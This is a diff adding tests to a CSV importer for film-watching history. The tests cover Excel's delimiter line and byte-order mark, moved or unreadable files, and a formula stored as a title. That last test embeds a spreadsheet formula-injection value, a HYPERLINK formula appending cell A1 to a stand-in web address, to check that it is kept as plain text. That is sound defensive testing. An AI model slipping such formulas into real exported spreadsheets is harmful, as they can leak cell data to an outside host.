@@ -1,5 +1,6 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
+import { readImport } from './read-import.ts'
 import { csv, json, readFiles, type TestFiles } from './test/read-files.ts'
 
 const HISTORY = 'title,year,tmdbId,imdbId,watchedAt'
@@ -99,6 +100,43 @@ test('a table that a spreadsheet saved again is read: another delimiter, encodin
     const reading = await readFiles({ 'history.csv': content })
     expect(reading.records.map(({ title }) => title.name)).toEqual(['Amélie'])
   }
+})
+
+test('a table that Excel saved again names its delimiter and begins with a mark', async () => {
+  const table = csv(HISTORY, 'Amélie,2001,194,,2020-01-01').replaceAll(',', ';').replaceAll('\n', '\r\n')
+  const reading = await readFiles({ 'history.csv': `\uFEFFsep=;\r\n${table}` })
+
+  expect(reading.problems).toEqual([])
+  expect(reading.records.map(({ title, position }) => [title.name, position.line])).toEqual([['Amélie', 3]])
+})
+
+test('a formula is a title like any other', async () => {
+  const formula = '=HYPERLINK("https://example.org/?"&A1)'
+  const reading = await readFiles({
+    'history.csv': csv(HISTORY, `"${formula.replaceAll('"', '""')}",1999,1,,2020-01-01`),
+  })
+  expect(reading.records.map(({ title }) => title.name)).toEqual([formula])
+})
+
+test('a folder, or a file that was moved since, says to choose it again', async () => {
+  const gone = () => Promise.reject(new DOMException('It is gone.', 'NotFoundError'))
+  const folder = Object.assign(new Blob(), { slice: () => ({ arrayBuffer: gone }) })
+  const stream = () => new ReadableStream({ pull: () => gone() })
+  const moved = Object.assign(new Blob([csv(HISTORY)]), { stream })
+  const { problems, files } = await readImport([
+    { path: 'export', blob: folder },
+    { path: 'history.csv', blob: moved },
+    { path: 'diary.csv', blob: new Blob([csv(HISTORY, 'The Orchard,1999,1,,2020-01-01')]) },
+  ])
+
+  expect(problems.map(({ code, position }) => `${code} ${position.file}`)).toEqual([
+    'file-unreadable export',
+    'file-unreadable history.csv',
+  ])
+  expect(files.map(({ path, status }) => `${status} ${path}`)).toEqual([
+    'read diary.csv',
+    'damaged history.csv',
+  ])
 })
 
 test('problems beyond five hundred are counted', async () => {
